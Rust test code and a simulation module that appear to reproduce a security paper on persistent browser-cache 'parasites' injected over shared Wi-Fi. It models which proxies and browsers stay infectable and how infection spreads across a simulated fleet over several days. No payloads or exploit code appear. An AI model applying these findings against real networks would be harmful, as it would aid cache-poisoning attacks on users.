        let result = artifact.data.as_table2().expect("table2 artifact");
        assert_eq!(result.rows.len(), 5);
        assert!(result.all_supported_succeed());
        // IE and Edge are n/a outside Windows, Safari outside Apple platforms.
        assert!(artifact.render_text().contains("n/a"));
    }

    #[test]
    fn table3_matches_the_paper() {
        let artifact = run(ExperimentId::Table3, &RunConfig::default());
        let result = artifact.data.as_table3().expect("table3 artifact");
        let chrome = result.rows.iter().find(|(name, _)| name == "Chrome").unwrap();
        assert_eq!(chrome.1[0], RemovalCell::Survived, "Ctrl+F5 does not remove the parasite");
        assert_eq!(chrome.1[1], RemovalCell::Survived, "clear cache does not remove the parasite");
        assert_eq!(chrome.1[2], RemovalCell::Removed, "clearing cookies removes it");
        let ie = result.rows.iter().find(|(name, _)| name == "IE").unwrap();
        assert!(ie.1.iter().all(|c| *c == RemovalCell::NotApplicable));
    }

    #[test]
    fn table4_http_is_always_infectable_and_https_is_harder() {
        let artifact = run(ExperimentId::Table4, &RunConfig::default());
        let result = artifact.data.as_table4().expect("table4 artifact");
        assert_eq!(result.rows.len(), 23);
        let http_count = result.rows.iter().filter(|r| r.infected_over_http).count();
        let https_count = result.rows.iter().filter(|r| r.infected_over_https).count();
        assert!(http_count > https_count);
        let squid = result.rows.iter().find(|r| r.name == "Squid").unwrap();
        assert!(squid.infected_over_http);
        let bluecoat = result.rows.iter().find(|r| r.name == "Blue Coat ProxySG").unwrap();
        assert!(!bluecoat.infected_over_https);
    }

    #[test]
    fn table5_attacks_mostly_succeed_with_requirements_met() {
        let artifact = run(ExperimentId::Table5, &RunConfig::default());
        let result = artifact.data.as_table5().expect("table5 artifact");
        assert!(result.reports.len() >= 15, "got {}", result.reports.len());
        assert!(result.successes() >= 14, "successes: {}", result.successes());
        assert!(artifact.render_text().contains("Transaction Manipulation"));
    }

    #[test]
    fn figure_flows_render_their_phases() {
        let fig1 = run(ExperimentId::Fig1, &RunConfig::default());
        let fig1_trace = fig1.data.as_fig1().expect("fig1 artifact");
        assert!(fig1_trace.steps.iter().any(|s| s.contains("junk")));
        assert!(fig1.render_text().contains("Figure 1"));
        let fig2 = run(ExperimentId::Fig2, &RunConfig::default());
        let fig2_trace = fig2.data.as_fig2().expect("fig2 artifact");
        assert!(fig2_trace.steps.iter().any(|s| s.contains("[ATTACK]")));
        assert!(fig2_trace.steps.iter().any(|s| s.contains("t=500198")));
    }

    #[test]
    fn fig3_fig4_fig5_and_ablation_produce_consistent_output() {
        let config = quick_config();
        let fig3 = run(ExperimentId::Fig3, &config);
        let fig3_result = fig3.data.as_fig3().expect("fig3 artifact");
        assert_eq!(fig3_result.series.days.len(), 20);
        assert!(fig3.render_text().contains("day"));

        let fig4 = run(ExperimentId::Fig4, &config);
        let fig4_result = fig4.data.as_fig4().expect("fig4 artifact");
        assert!(fig4_result.command_bytes_delivered > 0);
        assert!(fig4_result.upstream_bytes_delivered > 0);
        assert!(fig4_result.goodput_curve.iter().any(|(p, g)| *p == 25 && (*g - 100_000.0).abs() < 1.0));

        let fig5 = run(ExperimentId::Fig5, &config);
        let fig5_result = fig5.data.as_fig5().expect("fig5 artifact");
        assert_eq!(fig5_result.scan.total, 1500);
        assert!(fig5.render_text().contains("connect-src"));

        let ablation = run(ExperimentId::Ablation, &config);
        let ablation_result = ablation.data.as_ablation().expect("ablation artifact");
        assert_eq!(ablation_result.rows.len(), 7);
        assert!(ablation.render_text().contains("blocked"));
    }

    #[test]
    fn injection_race_is_deterministic_per_seed() {
        assert!(run_injection_race(1));
        assert!(run_injection_race(2));
    }

    #[test]
    fn artifacts_serialize_to_parseable_json() {
        let artifact = run(ExperimentId::Ablation, &RunConfig::default());
        let json = artifact.to_json();
        let text = json.to_string();
        let parsed = Json::parse(&text).expect("artifact JSON parses");
        assert_eq!(parsed.get("id").and_then(Json::as_str), Some("ablation"));
        assert_eq!(
            parsed.get("config").and_then(|c| c.get("seed")).and_then(Json::as_u64),
            Some(2021)
        );
        assert_eq!(
            parsed
                .get("data")
                .and_then(|d| d.get("rows"))
                .and_then(Json::as_array)
                .map(<[Json]>::len),
            Some(7)
        );
    }

    #[test]
    fn run_many_parallel_matches_sequential() {
        let ids = [ExperimentId::Fig4, ExperimentId::Ablation, ExperimentId::Table3];
        let configs = [quick_config(), RunConfig { seed: 9, ..quick_config() }];
        let sequential = run_many(&ids, &configs, 1);
        let parallel = run_many(&ids, &configs, 4);
        assert_eq!(sequential.len(), 6);
        assert_eq!(sequential, parallel);
        // id-major order: first two artifacts are Fig4 under both configs.
        assert_eq!(sequential[0].id, ExperimentId::Fig4);
        assert_eq!(sequential[1].id, ExperimentId::Fig4);
        assert_eq!(sequential[1].config.seed, 9);
    }

    #[test]
    fn run_many_handles_empty_input() {
        assert!(run_many(&[], &[RunConfig::default()], 4).is_empty());
        assert!(run_many(&[ExperimentId::Fig4], &[], 4).is_empty());
    }

    #[test]
    fn extended_registry_adds_the_campaign_fleet() {
        let extended = Registry::extended();
        assert_eq!(extended.len(), 13);
        assert_eq!(extended.last().unwrap().id(), ExperimentId::AttackSurface);
        assert_eq!("campaign_fleet".parse::<ExperimentId>(), Ok(ExperimentId::CampaignFleet));
        assert_eq!("attack_surface".parse::<ExperimentId>(), Ok(ExperimentId::AttackSurface));
        // The paper set stays exactly eleven so the classic report is stable.
        assert_eq!(Registry::all().len(), 11);
        assert!(!ExperimentId::ALL.contains(&ExperimentId::CampaignFleet));
        assert!(!ExperimentId::ALL.contains(&ExperimentId::AttackSurface));
    }

    #[test]
    fn campaign_fleet_sweeps_a_small_fleet() {
        let config = RunConfig {
            fleet_clients: 400,
            fleet_aps: 8,
            jitter_us: 150,
            ..quick_config()
        };
        let artifact = run(ExperimentId::CampaignFleet, &config);
        let result = artifact.data.as_campaign_fleet().expect("campaign artifact");
        assert_eq!(result.clients, 400);
        assert_eq!(result.aps, 8);
        assert_eq!(result.failed_aps, 0);
        // Every eighth client of an AP requests an unprepared object and
        // stays clean: 6 of each AP's 50 clients.
        assert_eq!(result.clean_clients, 48);
        assert_eq!(result.infected_clients, 352);
        assert_eq!(result.infected_clients + result.clean_clients, result.clients);
        assert!(result.total_events > 0);
        assert!(result.injected_events >= result.infected_clients as u64);
        assert!(artifact.render_text().contains("infected clients"));
        // Deterministic under the same seed, including with jitter enabled.
        let again = run(ExperimentId::CampaignFleet, &config);
        assert_eq!(artifact, again);
    }

    #[test]
    fn sharded_campaign_fleet_merges_and_stays_deterministic() {
        let config = RunConfig {
            fleet_clients: 1_000,
            fleet_aps: 8,
            fleet_shards: 4,
            jitter_us: 150,
            ..quick_config()
        };
        let artifact = run(ExperimentId::CampaignFleet, &config);
        let result = artifact.data.as_campaign_fleet().expect("campaign artifact");
        assert_eq!(result.shards, 4);
        assert_eq!(result.aps, 8);
        assert_eq!(result.clients, 1_000);
        assert_eq!(result.infected_clients + result.clean_clients, 1_000);
        assert_eq!(result.failed_aps, 0);
        assert!(artifact.render_text().contains("seed-sweep shards"));
        // Deterministic merge: same config, same artifact.
        assert_eq!(artifact, run(ExperimentId::CampaignFleet, &config));
        // A different shard count is a different seed sweep but loses nobody.
        let other = run(
            ExperimentId::CampaignFleet,
            &RunConfig { fleet_shards: 2, ..config },
        );
        let other = other.data.as_campaign_fleet().expect("campaign artifact");
        assert_eq!(other.shards, 2);
        assert_eq!(other.infected_clients + other.clean_clients, 1_000);
    }

    #[test]
    fn shard_count_is_clamped_to_the_ap_count() {
        let config = RunConfig {
            fleet_clients: 200,
            fleet_aps: 2,
            fleet_shards: 16,
            ..quick_config()
        };
        let artifact = run(ExperimentId::CampaignFleet, &config);
        let result = artifact.data.as_campaign_fleet().expect("campaign artifact");
        assert_eq!(result.shards, 2, "one AP per shard at minimum");
        assert_eq!(result.infected_clients + result.clean_clients, 200);
    }

    #[test]
    fn overpacked_fleet_is_a_typed_config_error() {
        // More clients than one AP's /16 address space: a typed error, not a
        // panic in a worker thread.
        let config = RunConfig {
            fleet_clients: 100_000,
            fleet_aps: 1,
            ..quick_config()
        };
        match Registry::get(ExperimentId::CampaignFleet).try_run(&config) {
            Err(ExperimentError::Config(message)) => assert!(message.contains("fleet_aps")),
            other => panic!("expected a config error, got {other:?}"),
        }
    }

    #[test]
    fn overpacked_sharded_fleet_surfaces_the_shard_config_error() {
        // Sharding must not mask the underlying error class: every shard
        // fails the per-AP capacity check, and the merge propagates that
        // Config error instead of synthesizing a budget failure.
        let config = RunConfig {
            fleet_clients: 1_000_000,
            fleet_aps: 4,
            fleet_shards: 2,
            ..quick_config()
        };
        match Registry::get(ExperimentId::CampaignFleet).try_run(&config) {
            Err(ExperimentError::Config(message)) => assert!(message.contains("fleet_aps")),
            other => panic!("expected the shard's config error, got {other:?}"),
        }
    }

    #[test]
    fn budget_exhaustion_is_a_typed_error_that_spares_siblings() {
        // Three events are not enough for even one handshake, so the
        // packet-level experiments fail — as an error, not a panic — while
        // the sibling task in the same sweep completes.
        let starved = RunConfig {
            event_budget: 3,
            ..quick_config()
        };
        let results = try_run_many(
            &[ExperimentId::Fig2, ExperimentId::Ablation],
            &[starved],
            2,
        );
        assert_eq!(results.len(), 2);
        match &results[0] {
            Err(ExperimentError::Net(NetError::EventBudgetExhausted { budget: 3 })) => {}
            other => panic!("expected a typed budget error, got {other:?}"),
        }
        let sibling = results[1].as_ref().expect("sibling experiment unaffected");
        assert_eq!(sibling.id, ExperimentId::Ablation);
    }

    #[test]
    fn try_run_many_isolates_panicking_tasks() {
        struct Bomb;
        impl Experiment for Bomb {
            fn id(&self) -> ExperimentId {
                ExperimentId::Ablation
            }
            fn try_run_ctx(&self, _config: &RunConfig, _ctx: &RunCtx) -> Result<Artifact, ExperimentError> {
                panic!("boom");
            }
        }
        // `run` surfaces `try_run` errors as panics with the experiment id.
        let caught = std::panic::catch_unwind(AssertUnwindSafe(|| Bomb.run(&RunConfig::default())));
        assert!(caught.is_err());
    }
}
