//! Shards as first-class work units: distributed campaign execution with
//! mergeable partial checkpoints.
//!
//! The multi-day campaign trajectory is a pure function of the campaign
//! configuration: every RNG stream is splitmix-derived from
//! `(campaign_seed, tag)`, per-AP heterogeneity profiles are pinned to
//! *global* AP indices, and each AP owns a statically pinned contiguous
//! slice of the fleet's seats. That makes any contiguous AP range — a
//! [`ShardPlan`] — an independently executable unit of work: a worker
//! process (or machine) given only the configuration and its AP range
//! reproduces exactly the seat trajectories the single-process run would
//! have produced for those APs, over all days, without communicating with
//! anyone.
//!
//! A shard's result is a [`ShardOutcome`]: the partial per-day
//! [`DayStats`] series, the final seat bitmap for its slice, and the
//! budget spent. Outcomes [`merge`](ShardOutcome::merge) associatively and
//! order-insensitively, so a coordinator can fold worker results in any
//! completion order; an outcome covering the whole fleet converts into the
//! standard [`CampaignFleetResult`] artifact — byte-identical to the
//! single-process run by construction, which is the acceptance bar for
//! distribution (worker count is a pure scheduling hint, like
//! `fleet_jobs`/`fleet_shards`).
//!
//! The same type is the checkpoint codec: a whole-campaign checkpoint is
//! simply a full-coverage `ShardOutcome` serialised to JSON, and a partial
//! checkpoint is the same document with a narrower shard list. The
//! single-process day loop in the `multiday` module now runs a
//! full-coverage shard through [`run_shard`]; the `paper-report
//! shard-worker` / `distribute` modes and the service daemon's
//! `shard_submit` run narrower ones.

use super::campaign::{
    fleet_jobs, mix_seed, plan_ap_tasks, requests_unprepared_object, share, simulate_ap_with,
    ApProfile, ApTask, CampaignFleetResult,
};
use super::multiday::{seat_visit_probs, DayStats, DAILY_CACHE_CLEAR, DAY_TAG, TARGET_TAG};
use super::{parallel_tasks, ExperimentError, RunConfig, RunCtx};
use crate::json::{Json, ToJson};
use mp_netsim::error::NetError;
use mp_netsim::sim::SharedBudget;
use mp_webgen::{ChurningObject, StabilityClass};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::path::{Path, PathBuf};

/// Seed-stream tag for the per-(day, AP) seat streams: on day `d`, AP `a`
/// draws its slice's churn/cache-clear/visit decisions from
/// `mix_seed(day_seed, SEAT_TAG ^ a)` where
/// `day_seed = mix_seed(campaign_seed, DAY_TAG ^ d)`. Giving every AP a
/// private stream (instead of one global per-day stream) is what makes an
/// AP range an independent unit of work; collision-tested alongside the
/// other streams in the campaign module.
pub(super) const SEAT_TAG: u64 = 0x5ea7_0000_0000_0000;

/// Checkpoint format version written by [`write_checkpoint`]. Version 2
/// replaced the single whole-fleet `"infected"` bitmap with a `"shards"`
/// list of per-range bitmaps, so partial checkpoints and whole-campaign
/// checkpoints share one codec.
const CHECKPOINT_VERSION: u64 = 2;

/// The `"kind"` discriminator of every campaign checkpoint document.
const CHECKPOINT_KIND: &str = "mp-campaign-checkpoint";

/// Error suffix of every structurally damaged checkpoint document (callers
/// prefix the document's origin).
const CORRUPT: &str = "is not a valid campaign checkpoint";

/// Error suffix of a checkpoint whose configuration fingerprint does not
/// match the current campaign.
const MISMATCH: &str = "was written under a different campaign configuration; \
     delete it or rerun with the original flags";

// ---------------------------------------------------------------------------
// Shard plans
// ---------------------------------------------------------------------------

/// A contiguous AP range of one campaign: the unit of work a worker is
/// assigned. The configuration (and with it every derived seed stream) is
/// carried separately; two plans under the same configuration with
/// disjoint ranges produce mergeable, non-overlapping outcomes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ShardPlan {
    /// First global AP index of the range.
    pub first_ap: usize,
    /// Number of APs in the range.
    pub aps: usize,
}

impl ShardPlan {
    /// The plan covering the whole fleet (the single-process day loop).
    pub fn full(config: &RunConfig) -> ShardPlan {
        ShardPlan { first_ap: 0, aps: config.fleet_aps.max(1) }
    }

    /// Splits the fleet into (at most) `workers` contiguous AP ranges,
    /// earlier ranges taking the remainder — the coordinator's default
    /// assignment. Never returns an empty range.
    pub fn split(config: &RunConfig, workers: usize) -> Vec<ShardPlan> {
        ShardPlan::split_range(0, config.fleet_aps.max(1), workers)
    }

    /// Splits one contiguous AP range into (at most) `workers` plans — the
    /// journal-resume complement of [`split`](Self::split): each gap
    /// between journaled ranges becomes its own set of fresh plans.
    pub fn split_range(first_ap: usize, aps: usize, workers: usize) -> Vec<ShardPlan> {
        let total = aps.max(1);
        let parts = workers.max(1).min(total);
        let mut plans = Vec::with_capacity(parts);
        let mut start = first_ap;
        for index in 0..parts {
            let aps = share(total, parts, index);
            plans.push(ShardPlan { first_ap: start, aps });
            start += aps;
        }
        plans
    }

    /// Whether this plan covers the whole fleet (and may therefore apply
    /// fleet-wide abort semantics live instead of at merge time).
    fn is_full(&self, config: &RunConfig) -> bool {
        self.first_ap == 0 && self.aps == config.fleet_aps.max(1)
    }
}

// ---------------------------------------------------------------------------
// The static seat layout
// ---------------------------------------------------------------------------

/// The fleet's static seat layout: AP `a` owns the contiguous seat range
/// `offsets[a]..offsets[a + 1]`. A pure function of the configuration
/// (uniform split, or weight-distributed under `fleet_hetero`), so every
/// worker computes the identical layout without coordination.
struct SeatLayout {
    /// Seat-range start offset per AP; `offsets[aps]` is the fleet size.
    offsets: Vec<usize>,
}

impl SeatLayout {
    /// The global seat range AP `ap` owns.
    fn seats_of(&self, ap: usize) -> std::ops::Range<usize> {
        self.offsets[ap]..self.offsets[ap + 1]
    }
}

/// Computes the static seat layout (surfacing an overpacked fleet as the
/// same config error the planner raises).
fn seat_layout(config: &RunConfig) -> Result<SeatLayout, ExperimentError> {
    let tasks = plan_ap_tasks(config, config.seed, config.fleet_clients)?;
    let mut offsets = Vec::with_capacity(tasks.len() + 1);
    let mut start = 0usize;
    for task in &tasks {
        offsets.push(start);
        start += task.clients;
    }
    offsets.push(start);
    Ok(SeatLayout { offsets })
}

/// Validates the campaign-shaped parts of a configuration (shared by the
/// single-process loop, the shard runner, and the coordinator).
pub(super) fn validate_campaign(config: &RunConfig) -> Result<(), ExperimentError> {
    if !(0.0..=1.0).contains(&config.fleet_churn) {
        return Err(ExperimentError::Config(format!(
            "fleet_churn must be a fraction in [0, 1], got {}",
            config.fleet_churn
        )));
    }
    if !(0.0..=1.0).contains(&config.fleet_visit_prob) {
        return Err(ExperimentError::Config(format!(
            "fleet_visit_prob must be a probability in [0, 1], got {}",
            config.fleet_visit_prob
        )));
    }
    // Surface an overpacked fleet before day one instead of inside a worker.
    seat_layout(config).map(|_| ())
}

// ---------------------------------------------------------------------------
// Shard outcomes
// ---------------------------------------------------------------------------

/// Fleet-wide counters accumulated across all completed days (they feed
/// the merged [`CampaignFleetResult`]). Plain sums, so partial outcomes
/// merge by adding.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub(super) struct Cumulative {
    pub(super) total_events: u64,
    pub(super) payload_bytes: u64,
    pub(super) injected_events: u64,
    pub(super) pending_bytes_dropped: u64,
    pub(super) failed_aps: usize,
}

/// One contiguous AP range's seat bitmap: the final infection state of the
/// seats its APs own.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShardPart {
    /// First global AP index covered.
    pub(super) first_ap: usize,
    /// Number of APs covered.
    pub(super) aps: usize,
    /// Global seat index of `infected[0]`.
    pub(super) seat_lo: usize,
    /// Per-seat infection state of the covered range.
    pub(super) infected: Vec<bool>,
}

impl ShardPart {
    /// The global seat range this part covers.
    fn seat_range(&self) -> std::ops::Range<usize> {
        self.seat_lo..self.seat_lo + self.infected.len()
    }

    /// The global AP range this part covers.
    fn ap_range(&self) -> std::ops::Range<usize> {
        self.first_ap..self.first_ap + self.aps
    }
}

/// The (partial) result of running a shard of a multi-day campaign: the
/// per-day statistics restricted to the shard's seats, the shard's final
/// seat bitmaps, and the budget it spent. A full-coverage outcome is
/// exactly the resumable whole-campaign state; outcomes of disjoint shards
/// [`merge`](Self::merge) associatively.
#[derive(Debug, Clone, PartialEq)]
pub struct ShardOutcome {
    /// Completed days.
    pub(super) completed_days: u32,
    /// The target object under Figure 3 churn — a pure function of the
    /// campaign seed and the day, identical on every shard (asserted on
    /// merge).
    pub(super) target: ChurningObject,
    /// Seat bitmaps, sorted by `first_ap`, pairwise disjoint.
    pub(super) parts: Vec<ShardPart>,
    /// Per-day statistics restricted to this outcome's seats.
    pub(super) days: Vec<DayStats>,
    /// Budget counters restricted to this outcome's seats.
    pub(super) cumulative: Cumulative,
}

impl ShardOutcome {
    /// Day-zero state of one shard: every covered seat clean, the target
    /// object fresh.
    pub fn fresh(config: &RunConfig, plan: ShardPlan) -> Result<ShardOutcome, ExperimentError> {
        let layout = seat_layout(config)?;
        let total_aps = config.fleet_aps.max(1);
        if plan.aps == 0 || plan.first_ap + plan.aps > total_aps {
            return Err(ExperimentError::Config(format!(
                "shard plan [{}, {}) exceeds the fleet's {} APs",
                plan.first_ap,
                plan.first_ap + plan.aps,
                total_aps
            )));
        }
        let seat_lo = layout.offsets[plan.first_ap];
        let seat_hi = layout.offsets[plan.first_ap + plan.aps];
        Ok(ShardOutcome {
            completed_days: 0,
            target: ChurningObject::new(
                "/my.js",
                StabilityClass::SlowChurn,
                mix_seed(config.seed, TARGET_TAG),
            ),
            parts: vec![ShardPart {
                first_ap: plan.first_ap,
                aps: plan.aps,
                seat_lo,
                infected: vec![false; seat_hi - seat_lo],
            }],
            days: Vec::new(),
            cumulative: Cumulative::default(),
        })
    }

    /// Completed days of this outcome.
    pub fn completed_days(&self) -> u32 {
        self.completed_days
    }

    /// The (partial) per-day statistics of this outcome.
    pub fn days(&self) -> &[DayStats] {
        &self.days
    }

    /// The `(first_ap, aps)` range of every part, sorted — what a
    /// journal-resuming coordinator subtracts from the fleet to find the
    /// ranges still to run.
    pub fn covered_aps(&self) -> Vec<(usize, usize)> {
        self.parts.iter().map(|part| (part.first_ap, part.aps)).collect()
    }

    /// The single contiguous `(first_ap, aps)` range this outcome covers,
    /// or an error if its parts leave gaps (a journal entry names its file
    /// after this range, so it must be one range).
    pub fn covered_range(&self) -> Result<(usize, usize), String> {
        let first = self
            .parts
            .first()
            .ok_or_else(|| "shard outcome covers no APs".to_string())?;
        let mut end = first.ap_range().end;
        for part in &self.parts[1..] {
            if part.first_ap != end {
                return Err(format!(
                    "shard outcome is not contiguous: gap before AP {}",
                    part.first_ap
                ));
            }
            end = part.ap_range().end;
        }
        Ok((first.first_ap, end - first.first_ap))
    }

    /// Merges two outcomes of *disjoint* shards of the same campaign.
    /// Associative and order-insensitive: counters add, part lists take
    /// their sorted disjoint union, so any fold order over any permutation
    /// of worker results produces the identical merged outcome (proptested
    /// below).
    pub fn merge(self, other: ShardOutcome) -> Result<ShardOutcome, String> {
        if self.completed_days != other.completed_days {
            return Err(format!(
                "cannot merge shard outcomes of different horizons ({} vs {} completed days)",
                self.completed_days, other.completed_days
            ));
        }
        if self.target != other.target {
            return Err("cannot merge shard outcomes with diverged target objects; \
                 the campaign configurations differ"
                .to_string());
        }
        if self.days.len() != other.days.len() {
            return Err("cannot merge shard outcomes with different day series lengths".to_string());
        }
        let days = self
            .days
            .iter()
            .zip(&other.days)
            .map(|(a, b)| merged_day(a, b))
            .collect::<Result<Vec<DayStats>, String>>()?;
        let mut parts = self.parts;
        parts.extend(other.parts);
        parts.sort_by_key(|part| part.first_ap);
        for window in parts.windows(2) {
            if window[0].ap_range().end > window[1].ap_range().start
                || window[0].seat_range().end > window[1].seat_range().start
            {
                return Err(format!(
                    "cannot merge overlapping shard outcomes (APs [{}, {}) and [{}, {}))",
                    window[0].ap_range().start,
                    window[0].ap_range().end,
                    window[1].ap_range().start,
                    window[1].ap_range().end
                ));
            }
        }
        Ok(ShardOutcome {
            completed_days: self.completed_days,
            target: self.target,
            parts,
            days,
            cumulative: Cumulative {
                total_events: self.cumulative.total_events + other.cumulative.total_events,
                payload_bytes: self.cumulative.payload_bytes + other.cumulative.payload_bytes,
                injected_events: self.cumulative.injected_events + other.cumulative.injected_events,
                pending_bytes_dropped: self.cumulative.pending_bytes_dropped
                    + other.cumulative.pending_bytes_dropped,
                failed_aps: self.cumulative.failed_aps + other.cumulative.failed_aps,
            },
        })
    }

    /// Converts a *full-coverage* outcome into the standard campaign
    /// artifact — the same conversion the single-process run performs, so
    /// a merged distributed run is byte-identical to it. Applies the
    /// fleet-wide abort semantics the single-process day loop applies
    /// live: a day on which every AP failed while seats were exposed is
    /// the typed budget error, not an artifact.
    pub fn into_fleet_result(
        self,
        config: &RunConfig,
    ) -> Result<CampaignFleetResult, ExperimentError> {
        let layout = seat_layout(config)?;
        let aps = config.fleet_aps.max(1);
        self.expect_full_coverage(config, &layout).map_err(ExperimentError::Checkpoint)?;
        for day in &self.days {
            if day.failed_aps == aps && day.exposed > 0 {
                return Err(ExperimentError::Net(NetError::EventBudgetExhausted {
                    budget: config.event_budget,
                }));
            }
        }
        let infected_clients: usize = self
            .parts
            .iter()
            .map(|part| part.infected.iter().filter(|&&seat| seat).count())
            .sum();
        Ok(CampaignFleetResult {
            shards: config.fleet_shards.max(1).min(aps),
            aps,
            clients: config.fleet_clients,
            infected_clients,
            clean_clients: config.fleet_clients - infected_clients,
            failed_aps: self.cumulative.failed_aps,
            total_events: self.cumulative.total_events,
            payload_bytes: self.cumulative.payload_bytes,
            injected_events: self.cumulative.injected_events,
            pending_bytes_dropped: self.cumulative.pending_bytes_dropped,
            day_stats: self.days,
        })
    }

    /// Checks that this outcome's parts tile the whole fleet exactly.
    fn expect_full_coverage(
        &self,
        config: &RunConfig,
        layout: &SeatLayout,
    ) -> Result<(), String> {
        let aps = config.fleet_aps.max(1);
        let mut next_ap = 0usize;
        for part in &self.parts {
            if part.first_ap != next_ap
                || part.seat_lo != layout.offsets[part.first_ap]
                || part.seat_range().end != layout.offsets[part.first_ap + part.aps]
            {
                return Err(format!(
                    "shard outcome does not cover the fleet: gap before AP {next_ap}"
                ));
            }
            next_ap = part.ap_range().end;
        }
        if next_ap != aps {
            return Err(format!(
                "shard outcome does not cover the fleet: APs [{next_ap}, {aps}) missing"
            ));
        }
        Ok(())
    }

    /// Flattens a full-coverage outcome's parts into one part (the shape
    /// the single-process resume loop runs on).
    fn coalesce(mut self, config: &RunConfig, layout: &SeatLayout) -> Result<Self, String> {
        self.expect_full_coverage(config, layout)?;
        let mut infected = Vec::with_capacity(config.fleet_clients);
        for part in &self.parts {
            infected.extend_from_slice(&part.infected);
        }
        self.parts = vec![ShardPart {
            first_ap: 0,
            aps: config.fleet_aps.max(1),
            seat_lo: 0,
            infected,
        }];
        Ok(self)
    }
}

/// Merges one day's statistics from two disjoint shards: global facts
/// (day number, object rotation) must agree, seat-local counters add.
fn merged_day(a: &DayStats, b: &DayStats) -> Result<DayStats, String> {
    if a.day != b.day || a.object_rotated != b.object_rotated {
        return Err(format!(
            "cannot merge mismatched day records (day {} vs day {})",
            a.day, b.day
        ));
    }
    Ok(DayStats {
        day: a.day,
        departures: a.departures + b.departures,
        arrivals: a.arrivals + b.arrivals,
        cache_clears: a.cache_clears + b.cache_clears,
        object_rotated: a.object_rotated,
        rotation_cured: a.rotation_cured + b.rotation_cured,
        exposed: a.exposed + b.exposed,
        newly_infected: a.newly_infected + b.newly_infected,
        failed_aps: a.failed_aps + b.failed_aps,
        infected: a.infected + b.infected,
        clean: a.clean + b.clean,
        events: a.events + b.events,
    })
}

// ---------------------------------------------------------------------------
// The shard day loop
// ---------------------------------------------------------------------------

/// Runs one shard of a multi-day campaign from a fresh day-zero state to
/// the configured horizon: the entry point for worker processes and the
/// daemon's `shard_submit`. The outcome is the shard's mergeable partial
/// result.
pub fn run_campaign_shard(
    config: &RunConfig,
    plan: ShardPlan,
    ctx: &RunCtx,
) -> Result<ShardOutcome, ExperimentError> {
    validate_campaign(config)?;
    let mut outcome = ShardOutcome::fresh(config, plan)?;
    run_shard(config, plan, ctx, &mut outcome, None, config.fleet_days.max(1))?;
    Ok(outcome)
}

/// Advances one shard's outcome day by day until `until_day` completed
/// days, optionally checkpointing after every day. The single-process
/// campaign is the special case `plan = ShardPlan::full(config)`.
pub(super) fn run_shard(
    config: &RunConfig,
    plan: ShardPlan,
    ctx: &RunCtx,
    outcome: &mut ShardOutcome,
    checkpoint: Option<&Path>,
    until_day: u32,
) -> Result<(), ExperimentError> {
    let layout = seat_layout(config)?;
    debug_assert_eq!(outcome.parts.len(), 1, "a running shard owns exactly one part");
    let shared = ctx.budget_for(config);
    // Per-seat visit probabilities are a pure function of the campaign seed,
    // so every shard recomputes the same habits (indexed by global seat).
    let visit_probs = seat_visit_probs(config);

    // Replay checkpoint-restored days through the sink so a streaming
    // watcher always sees the complete day series, resumed or not.
    if let Some(sink) = &ctx.day_sink {
        for day in &outcome.days {
            sink.emit(day);
        }
    }

    while outcome.completed_days < until_day {
        // Cooperative cancellation lands exactly on a day boundary: the
        // checkpoint written after the last completed day stays valid, so a
        // cancelled campaign resumes byte-identically.
        if ctx.cancel.is_cancelled() {
            return Err(ExperimentError::Cancelled { completed_days: outcome.completed_days });
        }
        let day = outcome.completed_days + 1;
        run_shard_day(config, plan, &layout, outcome, day, shared.as_ref(), visit_probs.as_deref())?;
        if let Some(path) = checkpoint {
            write_checkpoint(path, config, outcome)?;
        }
        if let Some(sink) = &ctx.day_sink {
            sink.emit(outcome.days.last().expect("day just completed"));
        }
    }
    Ok(())
}

/// One AP's slice of a day's exposure sweep: the planned AP task plus the
/// global seat indices of the clean seats it races today.
struct DayApTask {
    task: ApTask,
    seats: Vec<u32>,
}

/// Advances one shard by one day: object churn, per-AP seat churn, cache
/// clears, then the packet-level exposure sweep for every clean seat that
/// visits. Every random decision about AP `a`'s seats comes from that AP's
/// private per-day stream, so disjoint shards never consume each other's
/// randomness — the decomposition that makes outcomes mergeable.
fn run_shard_day(
    config: &RunConfig,
    plan: ShardPlan,
    layout: &SeatLayout,
    outcome: &mut ShardOutcome,
    day: u32,
    shared: Option<&SharedBudget>,
    visit_probs: Option<&[f64]>,
) -> Result<(), ExperimentError> {
    let day_seed = mix_seed(config.seed, DAY_TAG ^ day as u64);
    let ShardOutcome { completed_days, target, parts, days, cumulative } = outcome;
    let part = &mut parts[0];

    // 1. Figure 3 object churn: a *global* fact, derived from the day seed
    //    alone, so every shard computes the same rotation schedule. The
    //    master only discovers a rotation on its next crawl, so today's
    //    races are armed with the *stale* object and miss; re-infection
    //    resumes tomorrow — the collapse-and-recover dynamics of Figure 3.
    let renames_before = target.renames;
    target.advance_day(&mut StdRng::seed_from_u64(day_seed));
    let object_rotated = target.renames != renames_before;

    // 2–4. Per-AP seat phase: rotation cures, seat churn (departures take
    //    their cache with them; fresh clean arrivals replace them), cache
    //    clears (the only Table III refresh that removes the parasite),
    //    then the daily-visit draw for every clean seat.
    let mut rotation_cured = 0usize;
    let mut departures = 0usize;
    let mut cache_clears = 0usize;
    let mut exposed = 0usize;
    let mut ap_days = Vec::with_capacity(plan.aps);
    for ap in plan.first_ap..plan.first_ap + plan.aps {
        let seat_range = layout.seats_of(ap);
        let slice =
            &mut part.infected[seat_range.start - part.seat_lo..seat_range.end - part.seat_lo];
        let mut rng = StdRng::seed_from_u64(mix_seed(day_seed, SEAT_TAG ^ ap as u64));
        if object_rotated {
            for seat in slice.iter_mut() {
                if *seat {
                    *seat = false;
                    rotation_cured += 1;
                }
            }
        }
        if config.fleet_churn > 0.0 {
            for seat in slice.iter_mut() {
                if rng.gen_bool(config.fleet_churn) {
                    departures += 1;
                    *seat = false;
                }
            }
        }
        for seat in slice.iter_mut() {
            if *seat && rng.gen_bool(DAILY_CACHE_CLEAR) {
                *seat = false;
                cache_clears += 1;
            }
        }
        // Infected seats serve from cache and draw nothing — persistence
        // costs neither packets nor randomness.
        let seats: Vec<u32> = slice
            .iter()
            .enumerate()
            .filter(|(local, &infected)| {
                !infected
                    && visit_probs
                        .is_none_or(|probs| rng.gen_bool(probs[seat_range.start + local]))
            })
            .map(|(local, _)| (seat_range.start + local) as u32)
            .collect();
        exposed += seats.len();
        ap_days.push(DayApTask {
            task: ApTask {
                seed: mix_seed(day_seed, ap as u64),
